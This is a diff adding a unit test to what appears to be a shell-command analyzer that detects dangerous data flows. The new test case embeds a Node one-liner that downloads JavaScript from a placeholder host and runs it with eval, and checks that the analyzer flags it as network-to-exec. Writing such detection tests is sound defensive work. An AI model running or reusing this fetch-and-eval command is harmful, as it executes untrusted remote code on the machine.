@@ -87,3 +87,9 @@ TEST_CASE("the code reader names sources, sinks and hosts") {
   CHECK(sh::interpreter_family("nodejs") == "node");
   CHECK(sh::interpreter_family("ls").empty());
 }
+
+TEST_CASE("a URL handed to a module's get and then evaluated is network to exec") {
+  auto facts = analyze("node -e \"require('https').get('https://a.example.com/x.js', r => { let d=''; "
+                       "r.on('data', c => d+=c); r.on('end', () => eval(d)) })\"");
+  CHECK(has_flow(facts, "network", "exec"));
+}
